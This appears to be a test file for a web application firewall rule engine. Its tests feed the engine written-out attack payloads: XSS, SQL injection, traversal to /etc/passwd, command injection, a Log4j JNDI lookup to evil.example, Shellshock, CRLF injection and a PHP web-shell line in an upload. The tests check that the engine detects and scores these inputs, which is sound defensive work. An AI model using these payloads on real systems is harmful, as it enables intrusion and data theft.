import t from 'tap'
import { RuleSet, excerpt } from './engine.ts'
import { schema } from './schema.ts'
import { RULES } from './rules/index.ts'
import { BROWSER, explain, families, ids, inBody, inQuery, request, ruleSet } from './test-helpers.ts'

t.test('scores by severity and blocks at the threshold', async (t) => {
  const rules = ruleSet()
  const critical = inQuery(rules, '<script>')
  t.same(ids(critical), [1501])
  t.equal(critical.score, 5)
  t.ok(rules.reached(critical))
  const warning = inQuery(rules, '../images/logo.png')
  t.same(ids(warning), [1207])
  t.equal(warning.score, 3, 'a warning scores 3: below the default threshold')
  t.notOk(rules.reached(warning))
  const both = inQuery(rules, '<script>alert(1)</script>')
  t.same(ids(both), [1501, 1509])
  t.equal(both.score, 8, 'scores add up')
  const strict = ruleSet(1, { anomalyThreshold: 3 })
  t.ok(strict.reached(inQuery(strict, '../images/logo.png')), 'a lower threshold blocks on a warning')
  const lenient = ruleSet(1, { anomalyThreshold: 10 })
  t.notOk(lenient.reached(inQuery(lenient, '<script>')), 'a higher threshold needs more than one critical')
})

t.test('a rule counts once per request, at the first place it matched', async (t) => {
  const r = ruleSet().inspect({ method: 'GET', path: '/', query: 'a=%3Cscript%3E&b=%3Cscript%3E', headers: BROWSER })
  t.same(ids(r), [1501])
  t.equal(r.matches[0]?.target, 'query:a')
  t.equal(r.score, 5)
})

t.test('block mode stops at the threshold; detect mode collects every match', async (t) => {
  const query = 'a=%27%20or%201%3D1--&b=%3Cscript%3E&c=..%2F..%2Fetc%2Fpasswd'
  const block = new RuleSet(schema.parse({}))
  const detect = ruleSet()
  const b = block.inspect({ method: 'GET', path: '/', query, headers: BROWSER })
  const d = detect.inspect({ method: 'GET', path: '/', query, headers: BROWSER })
  t.ok(b.score >= 5)
  t.ok(b.matches.length < d.matches.length, `${explain(b)} vs ${explain(d)}`)
  t.same(families(d).sort(), ['lfi', 'sqli', 'xss'])
})

t.test('paranoia levels add stricter rules', async (t) => {
  const levels = [1, 2, 3, 4].map((pl) => ruleSet(pl))
  const [c1, c2, c3, c4] = levels.map((r) => r.rules.length) as [number, number, number, number]
  t.ok(c1 < c2 && c2 < c3 && c3 <= c4, `rules per level: ${c1}, ${c2}, ${c3}, ${c4}`)
  t.ok(levels[0]?.rules.every((r) => r.paranoia === 1))
  // PL2: SELECT … FROM with a select list.
  t.equal(inQuery(levels[0] as RuleSet, 'select name, email from users').score, 0)
  t.same(ids(inQuery(levels[1] as RuleSet, 'select name, email from users')), [1620])
  // PL3: any HTML tag.
  t.equal(inQuery(levels[1] as RuleSet, '<p>hi</p>').score, 0)
  t.ok(ids(inQuery(levels[2] as RuleSet, '<p>hi</p>')).includes(1530))
  // PL2: a missing User-Agent is noted (not blocking alone).
  const noUa = (rs: RuleSet): number[] => ids(rs.inspect({ method: 'GET', path: '/', query: '', headers: [['host', 'a.example']] }))
  t.same(noUa(levels[0] as RuleSet), [])
  t.same(noUa(levels[1] as RuleSet), [1120])
})

t.test('rules and families can be disabled', async (t) => {
  t.equal(inQuery(ruleSet(1, { disabledRules: [1501, 1509] }), '<script>alert(1)</script>').score, 0)
  t.equal(inQuery(ruleSet(1, { disabledFamilies: ['xss'] }), '<script>alert(1)</script>').score, 0)
  t.ok(inQuery(ruleSet(1, { disabledFamilies: ['xss'] }), '\' or 1=1--').score >= 5, 'other families still run')
  t.notOk(ruleSet(1, { disabledFamilies: ['sqli'] }).rules.some((r) => r.family === 'sqli'))
})

t.test('exclusions apply to one parameter only', async (t) => {
  const rules = ruleSet(1, {
    exclusions: [
      { target: 'query:html', families: ['xss'] },
      { target: 'body:comment', ruleIds: [1602, 1604] },
      { target: 'header:User-Agent', families: ['scanner'] },
      { target: 'cookie:session', families: ['sqli'] },
      { target: 'path', ruleIds: [1204] },
      { target: 'body:items.*', families: ['code'] },
    ],
  })
  t.equal(inQuery(rules, '<script>x</script>', 'html').score, 0, 'excluded for ?html=')
  t.ok(inQuery(rules, '<script>x</script>', 'other').score >= 5, 'not for ?other=')
  t.ok(inQuery(rules, '\' or 1=1--', 'html').score >= 5, 'only the excluded family is off')

  const form = (field: string): number => inBody(rules, 'application/x-www-form-urlencoded', `${field}=${encodeURIComponent('\' or 1=1--')}`).score
  t.equal(form('comment'), 0)
  t.ok(form('title') >= 5)

  const ua = rules.inspect({ method: 'GET', path: '/', query: '', headers: [['host', 'a.example'], ['user-agent', 'sqlmap/1.7']] })
  t.equal(ua.score, 0, 'header names are case-insensitive')

  const cookie = (name: string): number => request(rules, { headers: [['host', 'a.example'], ['cookie', `${name}=1' or '1'='1`]] }).score
  t.equal(cookie('session'), 0)
  t.ok(cookie('theme') >= 5)

  t.equal(request(rules, { path: '/.env' }).score, 0)
  t.ok(request(ruleSet(), { path: '/.env' }).score >= 5)

  const json = (body: unknown): number => inBody(rules, 'application/json', JSON.stringify(body)).score
  t.equal(json({ items: { a: '{{7*7}}' } }), 0, 'a trailing * matches by prefix')
  t.ok(json({ other: '{{7*7}}' }) >= 5)
})

t.test('inspects the path, query names and values, selected headers, cookies', async (t) => {
  const rules = ruleSet()
  const where = (req: Parameters<typeof request>[1]): string[] => request(rules, req).matches.map((m) => m.target)
  t.same(ids(request(rules, { path: '/..%2f..%2fetc/passwd' })), [1201, 1203, 1204], 'traversal, system file, restricted path')
  t.same(where({ path: '/..%2f..%2fetc/passwd' }), ['path', 'path', 'path'])
  t.same(where({ path: '/search/%3Cscript%3E' }), ['path'])
  t.same(where({ query: '%3Cscript%3E=1' }), ['query:<script>'], 'parameter names are inspected, under their decoded name')
  t.same(ids(request(rules, { path: '/cmd%3D127.0.0.1+%26%26+ls+%2Fetc' })), [1302], 'a path is also read with + as a space, as a form-decoding backend reads it')
  t.same(ids(request(rules, { path: '/wiki/C%2B%2B+templates' })), [], 'an encoded plus stays a plus')
  t.same(ids(request(rules, { path: '/%0ARCPT+TO%3A+test%40evil.com' })), [1009, 1421], 'a line break in the path')
  t.same(ids(request(rules, { path: '/files/report%0D.pdf' })), [1009], 'a lone CR too')
  t.same(ids(request(rules, { path: '/files/report%09final.pdf' })), [], 'a tab is not a line break')
  t.same(where({ headers: [...BROWSER, ['referer', 'https://x.example/?q=<script>alert(1)</script>']] }), ['header:referer', 'header:referer'])
  t.same(where({ headers: [...BROWSER, ['x-forwarded-for', '1.2.3.4\' or 1=1--']] }), ['header:x-forwarded-for', 'header:x-forwarded-for'])
  t.same(where({ headers: [...BROWSER, ['x-api-version', '${jndi:ldap://evil.example/a}']] }), ['header:x-api-version'])
  t.same(where({ headers: [...BROWSER, ['x-anything', '${jndi:ldap://evil.example/a}']] }), ['header:x-anything'], 'Log4j lookups in any header')
  t.same([...new Set(where({ headers: [...BROWSER, ['x-anything', '() { :; }; echo; /bin/id']] }))], ['header:x-anything'], 'Shellshock in any header')
  t.same(where({ headers: [...BROWSER, ['accept-language', '() { :; }; echo; /bin/id']] }), ['header:accept-language'], 'in a standard header too, and only Shellshock')
  t.same(where({ headers: [...BROWSER, ['x-anything', '<script>']] }), ['header:x-anything'], 'an application\'s own header is read like the selected ones')
  t.same(where({ headers: [...BROWSER, ['x-tenant', '1\' or 1=1--']] }), ['header:x-tenant', 'header:x-tenant'])
  t.same(where({ headers: [...BROWSER, ['accept', '<script>'], ['sec-fetch-dest', '<script>'], ['if-none-match', '<script>']] }), [], 'standard headers with a fixed grammar only get the protocol and any-header rules')
  t.same(where({ headers: [...BROWSER, ['x-anything', 'a%0d%0aSet-Cookie:%20admin=1']] }), ['header:x-anything'], 'CRLF injection in any header')
  t.same(where({ headers: [['host', 'a'], ['cookie', 'a=1; pref=%3Cscript%3E']] }), ['cookie:pref'])
})

t.test('inspects bodies: form, JSON (keys and strings, nested), multipart, text', async (t) => {
  const rules = ruleSet()
  const at = (ct: string, body: string): string[] => inBody(rules, ct, body).matches.map((m) => `${m.id}@${m.target}`)
  t.same(at('application/x-www-form-urlencoded', 'name=bob&comment=%27+or+1%3D1--'), ['1602@body:comment', '1604@body:comment'])
  t.same(at('application/json', JSON.stringify({ user: { bio: '<svg onload=alert(1)>' } })), ['1502@body:user.bio', '1503@body:user.bio', '1509@body:user.bio'])
  t.same(at('application/json', JSON.stringify({ list: ['ok', 'fine', ';cat /etc/passwd'] })), ['1203@body:list', '1302@body:list'])
  t.same(at('application/json', '{"__proto__": {"admin": true}}'), ['1409@body:__proto__'], 'keys are inspected')
  t.same(at('application/json; charset=utf-8', JSON.stringify({ note: 'O\'Brien said "select a plan", 1=1' })), [])
  t.same(at('text/plain', 'hello {{7*7}}'), ['1405@body'])
  t.same(at('application/octet-stream', '<script>alert(1)</script>'), [], 'binary types are not read')
  const boundary = '----b0undary'
  const multipart = [
    `--${boundary}`, 'Content-Disposition: form-data; name="title"', '', 'holiday photos',
    `--${boundary}`, 'Content-Disposition: form-data; name="caption"', '', '<img src=x onerror=alert(1)>',
    `--${boundary}--`, '',
  ].join('\r\n')
  t.same(at(`multipart/form-data; boundary=${boundary}`, multipart), ['1502@body:caption', '1503@body:caption', '1509@body:caption'])
})

t.test('uploads: script extensions and web shells in file content', async (t) => {
  const rules = ruleSet()
  const upload = (filename: string, content: string): number[] => {
    const b = 'xYz'
    const body = [`--${b}`, `Content-Disposition: form-data; name="file"; filename="${filename}"`, 'Content-Type: application/octet-stream', '', content, `--${b}--`, ''].join('\r\n')
    return ids(inBody(rules, `multipart/form-data; boundary=${b}`, body))
  }
  t.same(upload('shell.php', 'GIF89a'), [1415])
  t.same(upload('avatar.php.jpg', 'GIF89a'), [1415], 'a double extension runs on some servers')
  t.same(upload('avatar.jpg', 'GIF89a\x00\x01<?php system($_GET["c"]); ?>'), [1416])
  t.same(upload('avatar.jpg', 'GIF89a\x00\x01\x02 binary <script> bytes \' or 1=1'), [], 'file content only meets the upload rules')
  t.same(upload('report.pdf', '%PDF-1.7'), [])
})

t.test('request-level rules: framing, header limits, arguments, methods', async (t) => {
  const rules = ruleSet(1, { limits: { headerLength: 100, headerCount: 12, args: 3 } })
  const req = (r: Parameters<typeof request>[1]): number[] => ids(request(rules, r))
  t.same(req({ headers: [['host', 'a'], ['content-length', '5'], ['transfer-encoding', 'chunked']] }), [1010])
  t.same(req({ headers: [['host', 'a'], ['content-length', '5'], ['content-length', '5']] }), [1010])
  t.same(req({ headers: [['host', 'a'], ['transfer-encoding', 'gzip, chunked']] }), [1010])
  t.same(req({ headers: [['host', 'a'], ['host', 'b']] }), [1010])
  t.same(req({ headers: [['host', 'a'], ['x-long', 'a'.repeat(101)]] }), [1011])
  t.same(req({ headers: Array.from({ length: 13 }, (_, i) => [`x-h${i}`, 'v'] as const) }), [1012])
  t.same(req({ headers: [['host', 'a']], query: 'a=1&b=2&c=3&d=4' }), [1013])
  t.same(req({ headers: [['host', 'a']], query: 'a=1&b=2&c=3' }), [])
  t.same(req({ headers: [['host', 'a']], method: 'TRACE' }), [1014])
  t.same(req({ headers: [['host', 'a'], ['content-type', 'text/plain; charset=UTF-7']] }), [1007])
  t.same(req({ headers: [['host', 'a'], ['range', 'bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13,14-15,16-17,18-19,20-21']] }), [1008])
  t.same(req({ headers: [['host', 'a'], ['range', 'bytes=0-1023']] }), [])
})

t.test('bodies that hide content: oversized (when configured), malformed multipart, too deep', async (t) => {
  const allow = ruleSet()
  const block = ruleSet(1, { onOversizedBody: 'block' })
  t.same(ids(request(allow, { method: 'POST' }, { kind: 'oversized' })), [])
  t.same(ids(request(block, { method: 'POST' }, { kind: 'oversized' })), [1015])
  t.same(ids(inBody(allow, 'multipart/form-data; boundary=abc', '--abc\r\nContent-Disposition: form-data; name="a"\r\n\r\nno closing delimiter')), [1016])
  t.same(ids(inBody(allow, 'multipart/form-data', '--abc--')), [1016], 'no boundary')
  const deep = (n: number): string => '['.repeat(n) + '"x"' + ']'.repeat(n)
  t.same(ids(inBody(ruleSet(1, { maxJsonDepth: 8 }), 'application/json', deep(9))), [1017])
  t.same(ids(inBody(ruleSet(1, { maxJsonDepth: 8 }), 'application/json', deep(8))), [], 'eight levels are read')
  t.same(ids(inBody(ruleSet(2), 'application/json', '{"a": ')), [1022], 'malformed JSON is a PL2 warning; its text is still read')
  t.same(ids(inBody(ruleSet(1), 'application/json', '{"a": "<script>" ')), [1501])
})

t.test('excerpts are short and printable, never a whole body', async (t) => {
  t.equal(excerpt('a\u0000b\r\n'), 'a\\x00b\\x0d\\x0a')
  const long = excerpt('x'.repeat(1000))
  t.equal(long.length, 65)
  const r = inBody(ruleSet(), 'text/plain', `${'lorem ipsum '.repeat(5000)}<script>alert(1)</script>${'dolor '.repeat(5000)}`)
  t.ok(r.matches.length > 0)
  for (const m of r.matches) t.ok(m.excerpt.length <= 65, m.excerpt)
})

t.test('every rule has a unique id, a description and a known family', async (t) => {
  t.equal(new Set(RULES.map((r) => r.id)).size, RULES.length)
  for (const r of RULES) {
    t.ok(r.description.length > 10, `${r.id} described`)
    t.ok(r.paranoia >= 1 && r.paranoia <= 4)
  }
})
